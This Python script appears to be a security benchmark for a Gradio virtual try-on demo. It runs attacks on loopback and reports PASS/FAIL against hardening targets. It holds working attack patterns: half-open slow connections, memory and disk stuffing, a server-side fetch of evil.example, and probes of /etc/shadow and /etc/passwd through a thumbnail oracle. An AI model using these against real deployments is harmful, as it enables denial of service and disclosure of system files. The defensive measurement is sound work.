"""Attacks on a public deployment, measured (issue 23, findings 2, 5, 6, 7, 9, 10, 11, 12).

``python -m benchmarks.hostile`` prints one figure per attack and a PASS/FAIL line for each
target in BENCHMARKS.md. Everything goes to loopback only: the app runs offline against its
built-in simulator, as a separate process for the memory, disk and connection figures, and in
this process for the rest (so that look-ups of a remote host can be intercepted and counted;
nothing beyond loopback is ever resolved or connected to).

``--root DIR`` measures another checkout of the app (e.g. an export of ``main``) with this
script, so the same attacks give the figures before and after. ``--only`` picks sections.
Not part of the tests: the figures depend on the machine.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import json
import os
import re
import select
import socket
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import requests

ROOT = Path(__file__).resolve().parent.parent
SECTIONS = ("halfopen", "sessions", "deeplinks", "doors")
MB = 2**20
#: The app as ``app.py`` serves it, on a port and work folder given on the command line.
APP = """
import sys
from pathlib import Path
from tryon_demo.settings import load_settings
from tryon_demo.ui import build_demo, launch_options
work = Path(sys.argv[2])
settings = load_settings()
demo = build_demo(settings, workdir=work)
demo.launch(server_port=int(sys.argv[1]), quiet=True, **launch_options(work, settings))
"""


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return float("nan")


def folder_mb(folder: Path) -> float:
    return sum(p.stat().st_size for p in folder.rglob("*") if p.is_file()) / MB


@contextlib.contextmanager
def app_process(root: Path, scratch: Path, **env: str) -> Iterator[tuple[str, int]]:
    """The app of checkout ``root`` in a process of its own: its URL and process id."""
    port = free_port()
    (scratch / "work").mkdir(exist_ok=True)
    settings = {
        "TRYON_OFFLINE": "1",
        "TRYON_SIM_TASK_SECONDS": "0.3",
        "TRYON_STATE_DIR": str(scratch / "state"),
        "GRADIO_TEMP_DIR": str(scratch / "gradio"),
        "GRADIO_ANALYTICS_ENABLED": "False",
        "PYTHONPATH": str(root),
        **env,
    }
    proc = subprocess.Popen(
        [sys.executable, "-c", APP, str(port), str(scratch / "work")],
        cwd=root,
        env={**os.environ, **settings},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    url = f"http://127.0.0.1:{port}/"
    try:
        deadline = time.monotonic() + 120
        while True:
            try:
                if requests.get(url + "config", timeout=2).status_code == 200:
                    break
            except requests.RequestException:
                pass
            if time.monotonic() > deadline or proc.poll() is not None:
                raise RuntimeError("the app did not start")
            time.sleep(0.1)
        yield url, proc.pid
    finally:
        proc.terminate()
        proc.wait(timeout=20)


# --- page events as a browser (or an attacker) fires them --------------------------------------


def fn_indexes(url: str) -> dict[str, int]:
    config = requests.get(url + "config", timeout=10).json()
    return {d["api_name"]: d["id"] for d in config["dependencies"] if d.get("api_name")}


def fire(url: str, fn: int, data: list[Any], session: str, event_data: Any = None) -> Any:
    """An unqueued page event (``/gradio_api/run/predict``)."""
    body = {"data": data, "event_data": event_data, "fn_index": fn, "session_hash": session}
    return requests.post(url + "gradio_api/run/predict", json=body, timeout=120)


def fire_queued(url: str, fn: int, data: list[Any], session: str) -> str:
    """A queued page event; everything it streamed back."""
    body = {"data": data, "fn_index": fn, "session_hash": session}
    joined = requests.post(url + "gradio_api/queue/join", json=body, timeout=120)
    if joined.status_code != 200:
        return f"{joined.status_code}"
    lines = []
    with requests.get(
        url + "gradio_api/queue/data", params={"session_hash": session}, stream=True, timeout=120
    ) as stream:
        for raw in stream.iter_lines():
            lines.append(raw.decode())
            if '"process_completed"' in lines[-1]:
                break
    return "\n".join(lines)


def junk_entry(task_id: str) -> dict[str, Any]:
    return {"task_id": task_id, "kind": "run", "model": "kolors-virtual-try-on-v1"}


def run_data(person_link: str, history: list[Any]) -> list[Any]:
    return [None, person_link, None, "", "kolors-virtual-try-on-v1", "", "", history, {}, "en"]


# --- the sections ------------------------------------------------------------------------------


def bench_halfopen(root: Path, scratch: Path, figures: dict[str, Any]) -> None:
    """50 connections send half a request and stop; how many the server closes within 40 s."""
    with app_process(root, scratch) as (url, _):
        port = int(url.rstrip("/").rsplit(":", 1)[1])
        socks = []
        for _ in range(50):
            sock = socket.create_connection(("127.0.0.1", port), timeout=10)
            sock.sendall(b"GET /config HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
            socks.append(sock)
        started, closed = time.monotonic(), {}
        while len(closed) < len(socks) and time.monotonic() - started < 45:
            open_socks = [s for s in socks if s not in closed]
            ready, _, _ = select.select(open_socks, [], [], 1.0)
            for sock in ready:
                try:
                    piece = sock.recv(65536)
                except OSError:
                    piece = b""
                if not piece:
                    closed[sock] = time.monotonic() - started
        for sock in socks:
            sock.close()
    within = [t for t in closed.values() if t <= 40]
    figures["halfopen_closed_within_40s"] = len(within)
    figures["halfopen_slowest_close_s"] = round(max(closed.values()), 1) if closed else None
    print(f"half-open connections closed within 40 s: {len(within)} of 50", end="")
    print(f" (slowest {figures['halfopen_slowest_close_s']} s)" if closed else "")


def bench_sessions(root: Path, scratch: Path, figures: dict[str, Any]) -> None:
    """100 sessions, each stuffed through a history row (1 MB and 240 KB) and a run with a
    1 MB link and a 240 KB history; the app's memory before and after. Then 120 junk history
    values: how many the row click hands back as a task id."""
    with app_process(root, scratch) as (url, pid):
        fns = fn_indexes(url)
        picked, run = fns["_picked"], fns["run_flow"]
        for _ in range(3):  # warm up: every route and handler once
            session = uuid.uuid4().hex
            fire(url, picked, [[junk_entry("a" * 22)]], session, {"index": [0, 0], "value": ""})
            fire_queued(url, run, run_data("data:image/png;base64,AAAA", []), session)
        time.sleep(2)
        before = rss_mb(pid)
        big, small = "x" * MB, "y" * (240 * 2**10)
        refused = 0
        for n in range(100):
            session = uuid.uuid4().hex
            for junk in (big, small):
                answer = fire(
                    url,
                    picked,
                    [[junk_entry(f"{n}{junk}")]],
                    session,
                    {"index": [0, 0], "value": ""},
                )
                refused += answer.status_code == 413
            fire_queued(url, run, run_data("data:image/png;base64," + big, [small]), session)
        time.sleep(3)
        after = rss_mb(pid)
        echoed = 0
        for n in range(120):
            value = f"junk {n} <b>https://evil.example/{n}</b> " + "z" * (n * 50)
            answer = fire(
                url, picked, [[junk_entry(value)]], uuid.uuid4().hex, {"index": [0, 0], "value": ""}
            )
            data = answer.json().get("data") if answer.status_code == 200 else None
            echoed += bool(data) and data[0] == value
    figures["sessions_100_added_mb"] = round(after - before, 1)
    figures["sessions_row_clicks_refused_413"] = refused
    figures["history_junk_echoed_of_120"] = echoed
    print(f"100 stuffed sessions: app memory {before:.0f} -> {after:.0f} MB ", end="")
    print(f"(+{after - before:.1f} MB); {refused} of 200 row clicks refused with 413")
    print(f"junk history values handed back as a task id: {echoed} of 120")


def bench_deeplinks(root: Path, scratch: Path, figures: dict[str, Any]) -> None:
    """Three sessions stuffed with 10 MB each (a history row, a typed link), then a deep link
    asked for each: what lands on disk."""
    with app_process(root, scratch) as (url, _):
        fns = fn_indexes(url)
        folder = scratch / "gradio" / "deep_links"
        statuses = []
        for n in range(3):
            session = uuid.uuid4().hex
            junk = f"{n}" + "x" * (10 * MB)
            fire(url, fns["_picked"], [[junk_entry(junk)]], session, {"index": [0, 0], "value": ""})
            fire_queued(
                url, fns["run_flow"], run_data("data:image/png;base64," + junk, []), session
            )
            answer = requests.get(
                url + "gradio_api/deep_link", params={"session_hash": session}, timeout=60
            )
            statuses.append(answer.status_code)
        written = folder_mb(folder) if folder.exists() else 0.0
    figures["deeplinks_3x10mb_on_disk_mb"] = round(written, 1)
    print(f"three 10 MB deep links: {written:.1f} MB on disk (answers {statuses})")


@contextlib.contextmanager
def in_process_app(root: Path, scratch: Path) -> Iterator[tuple[str, Any, Path]]:
    """The app of ``root`` in this process (offline): its URL, the demo and its state folder."""
    sys.path.insert(0, str(root))
    from tryon_demo.settings import Settings
    from tryon_demo.ui import build_demo, launch_options

    state, work = scratch / "state-in", scratch / "work-in"
    settings = Settings(force_offline=True, simulator_task_seconds=0.3, state_dir=state)
    demo = build_demo(settings, workdir=work)
    _, url, _ = demo.launch(
        prevent_thread_lock=True,
        quiet=True,
        server_port=free_port(),
        **launch_options(work, settings),
    )
    try:
        yield url, demo, state
    finally:
        demo.close()


@contextlib.contextmanager
def remote_lookups() -> Iterator[list[str]]:
    """Look-ups of ``evil.example`` are refused and counted (nothing leaves the machine)."""
    seen: list[str] = []
    original = socket.getaddrinfo

    def guarded(host: Any, *args: Any, **kwargs: Any) -> Any:
        if "evil.example" in str(host):
            seen.append(str(host))
            raise socket.gaierror(socket.EAI_NONAME, "refused by the benchmark")
        return original(host, *args, **kwargs)

    socket.getaddrinfo = guarded  # type: ignore[assignment]
    try:
        yield seen
    finally:
        socket.getaddrinfo = original  # type: ignore[assignment]


def bench_doors(root: Path, scratch: Path, figures: dict[str, Any]) -> None:
    """Remote ``file=``, a non-ASCII token, the thumbnail oracle, a link typed into a field,
    the browser store's key, and revocation by deleting the secret."""
    from PIL import Image

    with in_process_app(root, scratch) as (url, _, state):
        fns = fn_indexes(url)
        with remote_lookups() as seen:
            answer = requests.get(url + "gradio_api/file=http://evil.example/5mb.bin", timeout=60)
        figures["remote_file_lookups"] = len(seen)
        print(f"file=http://evil.example/...: {answer.status_code}, host looked up {len(seen)}x")

        stderr, sys.stderr = sys.stderr, io.StringIO()
        try:
            codes = [
                requests.post(
                    url + "gradio_api/run/query", json={"data": ["abc", "é" * 43]}, timeout=30
                ).status_code
                for _ in range(2)
            ]
            time.sleep(0.5)
            tracebacks = sys.stderr.getvalue().count("Traceback")
        finally:
            sys.stderr = stderr
        figures["non_ascii_token_tracebacks_of_2"] = tracebacks
        print(f"non-ASCII owner token twice: answers {codes}, {tracebacks} tracebacks")

        def cell(thumb: str) -> str:
            stored = [{**junk_entry("a" * 22), "status": "succeed", "thumb": thumb}]
            reply = fire(url, fns["on_load"], [stored, "en"], uuid.uuid4().hex)
            return str(reply.json()["data"][0]["value"]["data"][0][0])

        pairs = [("/etc/shadow", "/etc/no-such-file"), ("/etc/passwd", "/no/such/passwd")]
        differ = sum(cell(a) != cell(b) for a, b in pairs)
        figures["thumbnail_pairs_differing_of_2"] = differ
        print(f"thumbnail of an existing vs a missing file outside: {differ} of 2 pairs differ")

        shown = fire_queued(
            url, fns["run_flow"], run_data("see https://evil.example now", []), uuid.uuid4().hex
        )
        # The status panel's Markdown (the API panel beside it shows the same text as code).
        statuses = re.findall(r'"(\*\*Could not run\*\*[^"]*)"', shown)
        bare = any("https://evil.example" in status for status in statuses)
        figures["bare_url_in_status_markdown"] = bare
        print(f"typed 'see https://evil.example now': bare URL in the status Markdown: {bare}")

        config = requests.get(url + "config", timeout=10).json()
        keys = [
            c["props"].get("secret") for c in config["components"] if c["type"] == "browserstate"
        ]
        docs = (Path(root) / "docs" / "page.md").read_text(encoding="utf-8").lower()
        figures["browser_key_in_config"] = bool(keys)
        figures["docs_say_encrypted"] = "encrypt" in docs
        print(f"browser store key in /config: {bool(keys)}; docs call it encrypted: ", end="")
        print("encrypt" in docs)

        person, garment = scratch / "person.jpg", scratch / "garment.png"
        Image.new("RGB", (600, 800), (200, 180, 160)).save(person)
        Image.new("RGBA", (600, 600), (20, 90, 200, 255)).save(garment)
        from gradio_client import Client, handle_file

        client = Client(url, verbose=False)
        made = client.predict(
            handle_file(str(person)), handle_file(str(garment)), api_name="/submit"
        )
        task_id, token = made["data"]["task_id"], made["owner_token"]
        (state / "owner-secret.key").unlink()
        time.sleep(3)
        reply = requests.post(
            url + "gradio_api/run/query", json={"data": [task_id, token]}, timeout=30
        )
        still = reply.status_code == 200
        figures["token_valid_3s_after_secret_deleted"] = still
        print(f"a token 3 s after owner-secret.key was deleted still opens its task: {still}")


TARGETS: dict[str, Callable[[Any], bool]] = {
    "halfopen_closed_within_40s": lambda v: v == 50,
    "sessions_100_added_mb": lambda v: v < 60,
    "deeplinks_3x10mb_on_disk_mb": lambda v: v < 5,
    "history_junk_echoed_of_120": lambda v: v == 0,
    "remote_file_lookups": lambda v: v == 0,
    "non_ascii_token_tracebacks_of_2": lambda v: v == 0,
    "thumbnail_pairs_differing_of_2": lambda v: v == 0,
    "bare_url_in_status_markdown": lambda v: v is False,
    "docs_say_encrypted": lambda v: v is False,
    "token_valid_3s_after_secret_deleted": lambda v: v is False,
}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.hostile", description=__doc__)
    parser.add_argument("--root", type=Path, default=ROOT, help="the checkout to measure")
    parser.add_argument("--only", default=",".join(SECTIONS), help="sections, comma-separated")
    parser.add_argument("--json", type=Path, help="also write the figures here")
    args = parser.parse_args(argv)
    root = args.root.resolve()
    figures: dict[str, Any] = {}
    print(f"measuring {root}")
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        for name in args.only.split(","):
            scratch = Path(tmp) / name
            scratch.mkdir()
            {
                "halfopen": bench_halfopen,
                "sessions": bench_sessions,
                "deeplinks": bench_deeplinks,
                "doors": bench_doors,
            }[name.strip()](root, scratch, figures)
    failed = 0
    for key, met in TARGETS.items():
        if key in figures:
            ok = met(figures[key])
            failed += not ok
            print(f"{'PASS' if ok else 'FAIL'} {key} = {figures[key]}")
    if args.json:
        args.json.write_text(json.dumps(figures, indent=2))
    return 1 if failed else 0


if __name__ == "__main__":
    raise SystemExit(main())
